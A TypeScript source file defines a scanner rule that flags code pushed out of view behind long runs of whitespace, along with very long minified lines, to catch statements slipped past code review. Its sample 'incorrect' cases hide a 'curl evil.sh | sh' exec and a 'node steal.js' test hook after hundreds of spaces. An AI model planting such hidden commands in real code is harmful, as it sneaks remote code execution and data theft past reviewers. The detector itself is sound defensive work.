import { defineTextRule, type TextRuleContext } from '../../engine/rule';
import type { Severity } from '../../model/finding';
import { GENERATED_DIR, isCodeFile, isGeneratedFile, isProseFile } from '../support/obfuscation-files';

const LONG = 500;
const VERY_LONG = 2000;
/** Columns of whitespace that push the rest of a line out of view, and where "out of view" starts. */
const GAP = 40;
const OFFSCREEN = 150;
const TAB = 4;
const MAX_LONG_FINDINGS = 5;
const MINIFIED = /\.(min|bundle)\.[cm]?js$/;
const LOCKFILE =
  /(^|\/)(package-lock\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|Cargo\.lock|poetry\.lock|Pipfile\.lock|composer\.lock|Gemfile\.lock|go\.sum|uv\.lock)$/;

interface Gap {
  /** Offset in the line where the hidden content starts, and its display column. */
  at: number;
  column: number;
}

/** The first run of 40+ columns of blanks after which content continues past column 150. */
function offscreenGap(line: string): Gap | undefined {
  let column = 0;
  let runStart = -1;
  let runColumns = 0;
  let seenContent = false;
  for (let i = 0; i < line.length; i++) {
    const c = line.charCodeAt(i);
    if (c === 32 || c === 9) {
      if (runStart < 0) {
        runStart = i;
        runColumns = 0;
      }
      const width = c === 9 ? TAB - (column % TAB) : 1;
      column += width;
      runColumns += width;
      continue;
    }
    if (runStart >= 0 && runColumns >= GAP && column >= OFFSCREEN && (seenContent || runColumns >= OFFSCREEN)) {
      return { at: i, column };
    }
    runStart = -1;
    seenContent = true;
    column++;
  }
  return undefined;
}

/** Share of the line inside string quotes: long data strings are ts/encoded-payload's business, not minified code. */
function quotedShare(line: string): number {
  let quote = 0;
  let inside = 0;
  for (let i = 0; i < line.length; i++) {
    const c = line.charCodeAt(i);
    if (quote !== 0) {
      inside++;
      if (c === 92) {
        i++;
        inside++;
      } else if (c === quote) {
        quote = 0;
      }
    } else if (c === 34 || c === 39 || c === 96) {
      quote = c;
    }
  }
  return inside / Math.max(1, line.length);
}

/** Mostly numbers and separators: a lookup table (byte arrays are ts/encoded-payload's business). */
function isNumberTable(line: string): boolean {
  let data = 0;
  for (let i = 0; i < line.length; i++) {
    const c = line.charCodeAt(i);
    if (
      (c >= 48 && c <= 57) ||
      c === 44 ||
      c === 32 ||
      c === 120 ||
      c === 46 ||
      c === 45 ||
      (c >= 97 && c <= 102) ||
      (c >= 65 && c <= 70)
    ) {
      data++;
    }
  }
  return data / Math.max(1, line.length) > 0.9;
}

/** A line that is one regular-expression literal (`  /^(a|b|...)$/,` or `const RE = /.../;`): data, not packed code. */
function isRegexLine(line: string): boolean {
  const t = line.trim();
  return (t.startsWith('/') || /^[\w$.\s]{1,80}[=:]\s*\//.test(t)) && /\/[dgimsuvy]*[;,)]*$/.test(t);
}

const COMMENT_LINE = /^\s*(\/\/|#|\*|\/\*|<!--|--|;|REM\b)/;

export default defineTextRule({
  meta: {
    id: 'text/long-line',
    category: 'obfuscation',
    severity: 'high',
    summary:
      'Code pushed out of view: content continuing far to the right after a long run of blanks, and very long lines of code (minified or packed) in source files.',
    why:
      'Diff viewers and editors show the first hundred-odd columns of a line. A statement placed after 200 spaces is in the diff ' +
      'but not on the screen, and a 5,000-character line of packed code cannot be read at all. Hand-written and AI-written code ' +
      'never needs either; generated bundles belong in build output, not in source.',
    incorrect: [
      { filename: 'src/init.js', code: `const ready = true;${' '.repeat(180)}require('child_process').exec('curl evil.sh | sh');` },
      { filename: 'src/vendor-shim.js', code: `var a=1;${'b=a+1;c=b*2;'.repeat(60)}` },
      { filename: 'package.json', code: `{"scripts": {"test": "mocha${' '.repeat(200)}&& node steal.js"}}` },
    ],
    correct: [
      { filename: 'src/a.ts', code: 'const a = 1;           // aligned comment' },
      { filename: 'src/logo.ts', code: `export const LOGO = 'data:image/png;base64,${'iVBORw0KGgo'.repeat(80)}';` },
      { filename: 'package-lock.json', code: `{"x": "${'a'.repeat(3000)}"}` },
      { filename: 'docs/guide.md', code: 'word '.repeat(400) },
    ],
    messages: {
      offscreen:
        'Content starts at column {{column}}, after a run of blanks that pushes it out of view: `{{hidden}}`. Code hidden to the right of the screen is a classic way to slip a statement past review.',
      long: 'Line of {{length}} characters of code: packed or minified code cannot be reviewed; if it is generated, it belongs in build output.',
    },
  },
  check(ctx) {
    if (LOCKFILE.test(ctx.path) || isProseFile(ctx.path)) {
      return;
    }
    const code = isCodeFile(ctx.path);
    // Bundles under dist/ or vendor/ are expected to be packed; a `.min.js` among the sources is worth a look.
    const lengthChecks =
      code && !ctx.isTestFile && (!isGeneratedFile(ctx.path) || (MINIFIED.test(ctx.path) && !GENERATED_DIR.test(ctx.path)));
    let longFindings = 0;
    for (let n = 1; n <= ctx.lines.lineCount; n++) {
      const line = ctx.lines.lineText(n);
      if (line.length < GAP) {
        continue;
      }
      if (checkOffscreen(ctx, n, line)) {
        continue;
      }
      if (lengthChecks && longFindings < MAX_LONG_FINDINGS && line.length > LONG && !COMMENT_LINE.test(line)) {
        if (quotedShare(line) > 0.7 || isNumberTable(line) || isRegexLine(line)) {
          continue;
        }
        const severity: Severity = MINIFIED.test(ctx.path) ? 'low' : line.length > VERY_LONG ? 'medium' : 'low';
        const start = ctx.lines.lineStart(n);
        ctx.report({ start, end: start + line.length, messageId: 'long', severity, data: { length: line.length } });
        longFindings++;
      }
    }
  },
});

function checkOffscreen(ctx: TextRuleContext, n: number, line: string): boolean {
  const gap = offscreenGap(line);
  if (!gap) {
    return false;
  }
  const hidden = line.slice(gap.at).trim();
  let alnum = 0;
  for (let i = 0; i < hidden.length && alnum < 3; i++) {
    const c = hidden.charCodeAt(i);
    if ((c >= 48 && c <= 57) || (c >= 65 && c <= 90) || (c >= 97 && c <= 122)) {
      alnum++;
    }
  }
  if (alnum < 3) {
    return false;
  }
  const start = ctx.lines.lineStart(n) + gap.at;
  const comment = COMMENT_LINE.test(hidden);
  ctx.report({
    start,
    end: ctx.lines.lineStart(n) + line.length,
    messageId: 'offscreen',
    severity: comment ? 'low' : 'high',
    data: { column: gap.column + 1, hidden: hidden.length > 80 ? `${hidden.slice(0, 77)}...` : hidden },
  });
  return true;
}
